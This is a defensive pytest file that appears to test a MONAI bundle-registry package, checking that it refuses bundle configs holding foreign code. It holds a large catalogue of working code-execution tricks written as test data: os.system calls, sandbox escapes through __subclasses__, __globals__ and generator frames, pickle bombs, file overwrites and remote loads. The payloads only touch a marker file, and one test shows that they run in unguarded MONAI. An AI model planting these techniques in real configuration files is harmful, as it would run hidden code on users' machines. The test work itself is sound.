"""No bundle runs foreign code, or overwrites a file, before a person has accepted that: neither added nor by hand."""

import json
import warnings
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import monai_bundles as mb
from monai_bundles import errors
from monai_bundles.adding.add import add
from monai_bundles.adding.concerns import Concern, concerns_of
from monai_bundles.adding.describe import describe
from monai_bundles.registry import SHIPPED, load_bundle, survey
from tests.monai_bundles.zoo_making import make_zoo_bundle, pre, threshold_network

MARKER = "/MARKER"
"""Stands for the file that an attack leaves where it works."""

TOUCH = f"touch {MARKER}"

Entries = dict[str, Any]


def net(kernel_size: str, **more: Any) -> Entries:
    """A configuration whose network evaluates an expression, with other entries."""
    return {"network_def": {**threshold_network(), "kernel_size": kernel_size}, **more}


def step(entry: Entries, **more: Any) -> Entries:
    """A configuration with a step more before the network."""
    return {"preprocessing": pre(entry), **more}


FOUND_BY_A_REVIEWER: dict[str, Entries] = {
    "a method named by a string": net(
        f"$1 + 0*operator.methodcaller('system', '{TOUCH}')(os)", imports=["$import os", "$import operator"]
    ),
    "an attribute named by a string": net(
        f"$1 + 0*operator.attrgetter('system')(os)('{TOUCH}')", imports=["$import os", "$import operator"]
    ),
    "a modulus that looks like a macro": net(f"$1 if True%eval(\"__import__('os').system('{TOUCH}') or 5\") else 1"),
    "another name for os": net(f"$1 + 0*O.spawnlp(0, 'touch', 'touch', '{MARKER}')", imports=["$import os as O"]),
    "allow_pickle by position": net("$1 + 0*len(numpy.load(@bundle_root + '/models/x.npy', None, True))"),
    "allow_pickle by two stars": net("$1 + 0*len(np.load(@bundle_root + '/models/x.npy', **{'allow_pickle': True}))"),
    "allow_pickle of a target": net(
        "$1 + 0*len(@x)",
        x={"_target_": "numpy.load", "file": "$@bundle_root + '/models/x.npy'", "allow_pickle": True},
    ),
    "a target that is a reference": net("$1 + 0*@x", what="os.system", x={"_target_": "@what", "command": TOUCH}),
    "a file overwritten by an array": net(f"$1 + 0*len(numpy.memmap('{MARKER}', mode='w+', shape=(3,)))"),
    "a file overwritten by a target": net(
        "$1 + 0*len([@x])", x={"_target_": "numpy.savetxt", "fname": MARKER, "X": [1]}
    ),
    "a file overwritten by a log": net(
        f"$1 + 0*len([logging.FileHandler('{MARKER}', 'w')])", imports=["$import logging"]
    ),
    "a parser of expressions": net(
        f'$1 + 0*monai.bundle.ConfigExpression(\'$__import__("os").system("{TOUCH}")\').evaluate()'
    ),
}

MORE: dict[str, Entries] = {
    "a function of MONAI by its short name": net(
        "$1 + 0*len([@x])", x={"_target_": "run_cmd", "cmd_list": TOUCH.split()}
    ),
    "one of Python's own functions as a target": net("$1", y={"_target_": "open", "file": MARKER, "mode": "w"}, x="@y")
    | step({"_target_": "Lambdad", "keys": "image", "func": "@y"}),
    "a function of this package by its short name": net(
        "$1 + 0*len([@x])",
        x={"_target_": "write_record", "library": "$Path('/MARKER')", "record": None},
        imports=["$from pathlib import Path"],
    ),
    "a module in MONAI's modules": net(
        "$1 + 0*len([@x])", x={"_target_": "monai.utils.misc.subprocess.run", "args": TOUCH.split()}
    ),
    "a module in this package": net(
        "$1 + 0*len([@x])", x={"_target_": "monai_bundles.registry.log.manager.root.__class__.__subclasses__"}
    ),
    "an import as a value": net(f"$1 + 0*@more::0.system('{TOUCH}')", more=["$import os"]),
    "an import in a list": net(f"$1 + 0*(@more)[0].system('{TOUCH}')", more=["$import os"]),
    "an import by a macro": net(f"$1 + 0*@o.system('{TOUCH}')", more=["$import os"], o="%more::0"),
    "an import by the name of the references": net(
        f"$1 + 0*@x + 0*__local_refs['more::' + '0'].system('{TOUCH}')", more=["$import os"], x=1
    ),
    "a library under another's name": net(f"$1 + 0*np.system('{TOUCH}')", imports=["$import os as np"]),
    "a function under Python's name": net(f"$1 + 0*len('{TOUCH}')", imports=["$from os import system as len"]),
    "two libraries under one name": net(
        f"$1 + 0*j.popen('{TOUCH}').close()", imports=["$import json as j", "$import os as j"]
    ),
    "a name that is Python's outside a comprehension": net(
        f"$1 + 0*len([eval for eval in []] or [eval(\"__import__('os').system('{TOUCH}')\")])"
    ),
    "a comprehension that assigns": net(
        f"$1 + 0*len([0 for monai.utils.misc.x in [lambda: 0]]) + 0*__import__('os').system('{TOUCH}')"
    ),
    "an attribute of an attribute": net(f"$1 + 0*len([glob.os.system('{TOUCH}')])", imports=["$import glob"]),
    "a class of a class": net(
        "$1 + 0*len([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]"
        f"(['touch', '{MARKER}']).args)"
    ),
    "text that formats": net("$len('{0.__class__.__base__}'.format(@device)) * 0 + 1 + 0*open('/MARKER', 'w').close()"),
    "text that formats by map": net(f"$1 + 0*len(list(map(str.format, ['{{0.__class__}}'], [open('{MARKER}', 'w')])))"),
    "a formatted text that calls": net(f'$len(f\'{{open("{MARKER}", "w").close()}}\') // 4'),
    "a default of a lambda": net(f"$(lambda x=__import__('os').system('{TOUCH}'): 1)()"),
    "an assignment in an expression": net(f"$[o := __import__('os'), o.system('{TOUCH}')] and 1"),
    "a type that is made": net(f"$type('X', (), {{'f': open}})().f('{MARKER}', 'w') and 1"),
    "a file opened to write by a name": net(f"$[f('{MARKER}', 'w') for f in [open]] and 1"),
    "a file opened to write by stars": net(f"$open(*['{MARKER}', 'w']) and 1"),
    "a file opened by an opener": net(f"$1 + 0*len(open('{MARKER}', opener=lambda p, f: eval('1')).name)"),
    "an entry that is a function and one that calls it": net(
        f"$1 + 0*@call('{TOUCH}')", call="$os.system", imports=["$import os"]
    ),
    "an entry that is a target and one that calls it": net(
        f"$1 + 0*@call('{TOUCH}')", call={"_target_": "os.system", "_mode_": "callable"}
    ),
    "a part of a function": net(
        f"$1 + 0*functools.partial(os.system, '{TOUCH}')()", imports=["$import os", "$import functools"]
    ),
    "a reduction": net(
        f"$1 + 0*functools.reduce(lambda f, x: f(x), ['{TOUCH}'], os.system)",
        imports=["$import os", "$import functools"],
    ),
    "a requirement": net("$1")
    | {"evaluator": {"_target_": "SupervisedEvaluator", "_requires_": f"$__import__('os').system('{TOUCH}')"}},
    "a description": {"network_def": {**threshold_network(), "_desc_": f"$__import__('os').system('{TOUCH}')"}},
    "a switch": {"network_def": {**threshold_network(), "_disabled_": f"$__import__('os').system('{TOUCH}')"}},
    "a debugger": {"network_def": {**threshold_network(), "_mode_": "debug"}},
    "a network that is named here and built there": net(
        "$1 + 0*len([@x('fast', 3, 5, 'https://example.invalid/')])", x={"_target_": "HoVerNet", "_mode_": "callable"}
    ),
    "a debugger by an argument": {"network_def": {**threshold_network(), "_debug_": True}},
    "an import of what is not there yet": net("$1 + 0*x", imports=["$from os import popen as x"]),
    "an import with more behind it": net("$1", imports=[f"$import os; os.system('{TOUCH}')"]),
    "MONAI's way to import": net(f"$1 + 0*monai.utils.optional_import('os')[0].system('{TOUCH}')"),
    "MONAI's way to import as a target": net(
        f"$1 + 0*@m[0].system('{TOUCH}')", m={"_target_": "monai.utils.optional_import", "module": "os"}
    ),
    "a bundle that is run": net("$1", x={"_target_": "monai.bundle.run", "config_file": MARKER}),
    "a file from the internet": net(
        "$1", x={"_target_": "monai.apps.download_url", "url": "https://example.invalid/", "filepath": MARKER}
    ),
    "a repository of torch": net("$1 + 0*len(torch.hub.load('a/b', 'c'))"),
    "torch's own loader of others": net("$1 + 0*len(torch.load(@bundle_root + '/models/x.pkl', weights_only=False))"),
    "a pickle module": net("$1 + 0*len(torch.load(@bundle_root + '/models/x.pkl', 'cpu', torch.os))"),
    "torch's writer": net(f"$1 + 0*len([torch.save(1, '{MARKER}')])"),
    "torch's writer by its name": net("$1 + 0*len([@x])", x={"_target_": "torch.save", "obj": 1, "f": MARKER}),
    "a path that writes": net(f"$Path('{MARKER}').write_text('x') and 1", imports=["$from pathlib import Path"]),
    "a path that moves": net(
        f"$Path(@bundle_root + '/LICENSE').replace('{MARKER}') and 1", imports=["$from pathlib import Path"]
    ),
    "a path that moves behind text": net(
        f"$[p.replace('{MARKER}') for p in [Path(@bundle_root + '/LICENSE')]] and 1",
        imports=["$from pathlib import Path"],
    ),
    "an array that writes": net(f"$1 + 0*len([numpy.ones(3).tofile('{MARKER}')])"),
    "a table that writes": net(
        f"$1 + 0*len([pd.DataFrame([1]).to_json('{MARKER}')])", imports=["$import pandas as pd"]
    ),
    "numpy's reader of pickles in MONAI": net(
        "$1 + 0*len([monai.data.NumpyReader().read(@bundle_root + '/models/x.npy')])"
    ),
    "a loader with a class by its path": net(
        f"$1 + 0*len([monai.transforms.LoadImage(True, 'subprocess.Popen', {TOUCH.split()!r})])"
    ),
    "a saver outside the steps": net(
        f"$1 + 0*len([monai.transforms.SaveImage('{MARKER}', separate_folder=False)(torch.ones(1, 2, 2))])"
    ),
    "a saver by another name": step({
        "_target_": "monai.transforms.WriteFileMappingd",
        "keys": "image",
        "mapping_file_path": MARKER,
    }),
    "a handler that writes": {"x": {"_target_": "LogfileHandler", "output_dir": MARKER}},
    "a handler that sends": {"x": {"_target_": "MLFlowHandler", "tracking_uri": "https://example.invalid/"}},
    "a cache of pickles": {"x": {"_target_": "PersistentDataset", "data": [], "cache_dir": MARKER}},
    "a merger by its path": {
        "inferer": {
            "_target_": "PatchInferer",
            "splitter": {"_target_": "SlidingWindowSplitter", "patch_size": [8, 8, 8]},
            "merger_cls": "antigravity.x",
        }
    },
    "weights from an address": {
        "network_def": {
            "_target_": "HoVerNet",
            "mode": "fast",
            "out_classes": 3,
            "pretrained_url": "https://example.invalid/",
        }
    },
    "weights that are fetched where nobody forbids it": {
        "network_def": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0", "num_classes": 3}
    },
    "macros that double": net("$1", **{f"m{n}": [f"%m{n - 1}"] * 9 if n else [0] * 9 for n in range(9)}),
    "weights of others by a reference": {
        "network_def": {
            "_target_": "DenseNet121",
            "spatial_dims": 2,
            "in_channels": 1,
            "out_channels": 3,
            "pretrained": "@yes",
        },
        "yes": True,
    },
    "code in a key under a relative reference": {
        "network_def": {
            **threshold_network(),
            "y": 0,
            f"y or open('{MARKER}', 'w')": {"x": 1, "kernel": "$[1, 2][@::x]"},
        },
    },
    "a reference inside text": net(f"$len('@or' or '') * 0 + 1 + __import__('os').system('{TOUCH}')", **{"or": 1}),
    "a macro with a file": {"network_def": "%configs/other.json::network_def"},
    "a macro with a file on a line of its own": {
        "network_def": "%\nconfigs/other.json::network_def",
        "\nconfigs/other.json": {"network_def": threshold_network()},
    },
    "a macro with a file, relative": {"network_def": {**threshold_network(), "kernel_size": "%../evil.yaml#x"}},
    "letters that Python folds": net(f"$ｅｖａｌ(\"__import__('os').system('{TOUCH}')\") + 1"),
    "a target that is a mapping": net(
        "$1", x={"_target_": {"_target_": "os.system", "_mode_": "callable"}, "command": TOUCH}
    ),
    "a switch of another module": net("$1 + 0*len([setattr(monai.utils.misc, 'x', 1)])"),
    "a switch of a local name": net("$1 + 0*len([(lambda torch: setattr(torch.backends.cudnn, 'x', 1))(@device)])"),
    "a compiler": {"evaluator": {"_target_": "SupervisedEvaluator", "network": "@network", "compile": True}},
    "all builtins": net(f"$__builtins__['open']('{MARKER}', 'w') and 1"),
    "an attribute of a function": net(f"$(lambda: 0).__globals__['__builtins__']['open']('{MARKER}', 'w') and 1"),
    "the frame of a generator": net(f"$(x for x in [1]).gi_frame.f_builtins['open']('{MARKER}', 'w') and 1"),
    "text that prints into a file": net(f"$1 + 0*len([print('x', file=open('{MARKER}', 'r'))])"),
}

ATTACKS = {**FOUND_BY_A_REVIEWER, **MORE}


class Bomb:
    """What a pickle runs when it is read."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


def armed(folder: Path, entries: Entries, marker: Path, name: str = "planted_ct_segmentation") -> Path:
    """A bundle that attacks, with files that do so when they are unpickled."""
    text = json.dumps(entries).replace(MARKER, str(marker))
    root = make_zoo_bundle(folder, name, config=json.loads(text))
    bombs = np.empty(1, object)
    bombs[0] = Bomb(marker)
    np.save(root / "models" / "x.npy", bombs, allow_pickle=True)
    other = json.dumps(net(f"$__import__('os').system('touch {marker}') + 1"))
    (root / "configs" / "other.json").write_text(other, encoding="utf-8")
    return root


@pytest.mark.parametrize("name", ATTACKS)
def test_foreign_code_is_refused_unasked_and_does_not_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    marker = tmp_path / "marker"
    root = armed(tmp_path, ATTACKS[name], marker)
    monkeypatch.chdir(root)

    with pytest.raises(errors.CodeNotTrusted, match="--trust"):
        add(str(root), tmp_path / "library")

    assert not marker.exists()
    assert not (tmp_path / "library").exists()


WORK = (
    "a method named by a string", "a modulus that looks like a macro", "another name for os",
    "allow_pickle by position", "allow_pickle by two stars", "allow_pickle of a target", "a target that is a reference",
    "a file overwritten by an array", "a file overwritten by a target", "a file overwritten by a log",
    "a parser of expressions", "a function of MONAI by its short name", "a module in MONAI's modules",
    "an import as a value", "an import in a list", "an import by a macro", "a library under another's name",
    "a function under Python's name", "a name that is Python's outside a comprehension", "an attribute of an attribute",
    "a class of a class", "a formatted text that calls", "a default of a lambda", "a type that is made",
    "a file opened to write by a name", "an entry that is a function and one that calls it",
    "an entry that is a target and one that calls it", "a part of a function", "a reduction", "a description",
    "a switch", "MONAI's way to import", "MONAI's way to import as a target", "torch's writer",
    "a path that writes", "a path that moves", "an array that writes",
    "a macro with a file", "a macro with a file on a line of its own", "letters that Python folds",
    "code in a key under a relative reference", "all builtins",
    "an attribute of a function",
)  # fmt: skip


@pytest.mark.parametrize("name", WORK)
def test_the_attacks_work_where_nobody_refuses_them(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    from monai.bundle import ConfigParser

    marker = tmp_path / "marker"
    root = armed(tmp_path, ATTACKS[name], marker)
    monkeypatch.chdir(root)
    config = json.loads((root / "configs" / "inference.json").read_text(encoding="utf-8"))
    config["bundle_root"] = str(root)

    with suppress(Exception), warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ConfigParser(config).get_parsed_content("network_def")

    assert marker.exists()


def test_a_bundle_that_lies_in_the_folder_by_hand_is_asked_for_trust_before_anything_runs(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    library = tmp_path / "library"
    root = armed(library, net(f"$1 + 0*__import__('os').system('{TOUCH}')"), marker)
    describe(root).write(root)

    found = survey(library)

    assert root.name not in {b.name for b in found.bundles}
    assert [r.error.code for r in found.refused if r.name == root.name] == ["code_not_trusted"]
    with pytest.raises(errors.CodeNotTrusted, match="nobody has accepted"):
        mb.find(root.name, library)
    with pytest.raises(errors.CodeNotTrusted, match="not built"):
        mb.verify(load_bundle(root), build=True)
    assert not marker.exists()


def test_a_harmless_bundle_that_lies_in_the_folder_by_hand_is_used(tmp_path: Path) -> None:
    root = make_zoo_bundle(tmp_path)
    describe(root).write(root)

    bundle = mb.find(root.name, tmp_path)

    mb.verify(bundle, build=True)
    assert not bundle.trusted


def test_a_version_that_an_older_release_took_in_is_judged_again(tmp_path: Path) -> None:
    library = tmp_path / "library"
    bundle = add(str(make_zoo_bundle(tmp_path)), library).bundle
    path = bundle.root / "configs" / "inference.json"
    content = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps({**content, "x": "$__import__('os').getcwd()"}), encoding="utf-8")
    record = json.loads((library / "registry.json").read_text(encoding="utf-8"))
    digest = load_bundle(bundle.root).algorithm.bundle_digest
    record["bundles"][bundle.name]["versions"][bundle.version]["digest"] = digest
    (library / "registry.json").write_text(json.dumps(record), encoding="utf-8")

    with pytest.raises(errors.CodeNotTrusted, match="nobody has accepted"):
        mb.find(bundle.name, library)


def test_the_judgement_is_kept_by_the_digest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = make_zoo_bundle(tmp_path)
    describe(root).write(root)
    mb.find(root.name, tmp_path)
    asked: list[Path] = []

    def counted(asked_for: Path) -> tuple[Concern, ...]:
        asked.append(asked_for)
        return ()

    monkeypatch.setattr("monai_bundles.adding.concerns.concerns_of", counted)

    mb.find(root.name, tmp_path)
    (root / "docs" / "README.md").write_text("# Another\n", encoding="utf-8")
    mb.find(root.name, tmp_path)

    assert asked == [root]


@pytest.mark.parametrize("root", sorted(p for p in SHIPPED.iterdir() if (p / "configs").is_dir()), ids=lambda p: p.name)
def test_the_shipped_bundles_pass_the_judgement(root: Path) -> None:
    assert concerns_of(root) == ()


def _link(name: str, target: str | Path) -> Callable[[Path], None]:
    return lambda root: (root / name).symlink_to(target)


def _hidden_code(root: Path) -> None:
    outside = root.parent / "elsewhere"
    outside.mkdir()
    (outside / "__init__.py").write_text("", encoding="utf-8")
    (root / "scripts").symlink_to(outside)


@pytest.mark.parametrize(
    "spoil",
    [
        _link("docs/l", "/etc/passwd"),
        _hidden_code,
        _link("docs/l", "nowhere"),
        _link("docs/l", "l"),
        _link("docs/l", "../.."),
    ],
    ids=["a file", "a folder with code", "a link to nothing", "a link to itself", "the folder above"],
)
def test_links_that_lead_out_of_the_bundle_are_refused(tmp_path: Path, spoil: Callable[[Path], None]) -> None:
    root = make_zoo_bundle(tmp_path)
    describe(root).write(root)
    spoil(root)

    with pytest.raises(errors.BadMetadata, match="link"):
        add(str(root), tmp_path / "library", trust=True)
    with pytest.raises(errors.BadMetadata, match="link"):
        mb.find(root.name, tmp_path)
    with pytest.raises(errors.BadMetadata, match="link"):
        describe(root)

    assert not (tmp_path / "library").exists()


def test_code_behind_a_link_inside_the_bundle_is_seen(tmp_path: Path) -> None:
    root = make_zoo_bundle(tmp_path)
    hidden = root / "docs" / "__pycache__"
    hidden.mkdir()
    (hidden / "net.py").write_text("", encoding="utf-8")
    (root / "scripts").symlink_to(hidden)

    with pytest.raises(errors.CodeNotTrusted, match="docs"):
        add(str(root), tmp_path / "library")


@pytest.mark.parametrize("name", ["LICENSE", "LICENCE", "LICENSE.md", "LICENCE.txt"])
def test_both_spellings_of_the_licence_are_taken(tmp_path: Path, name: str) -> None:
    root = make_zoo_bundle(tmp_path)
    (root / "LICENSE").rename(root / name)

    assert add(str(root), tmp_path / "library").bundle.licence == "Apache-2.0"


def test_a_configuration_that_holds_itself_is_one_sentence(tmp_path: Path) -> None:
    root = make_zoo_bundle(tmp_path, suffix="yaml")
    with (root / "configs" / "inference.yaml").open("a", encoding="utf-8") as stream:
        stream.write("round: &round\n  - *round\n")

    with pytest.raises(errors.BadMetadata, match="refers to itself"):
        add(str(root), tmp_path / "library")
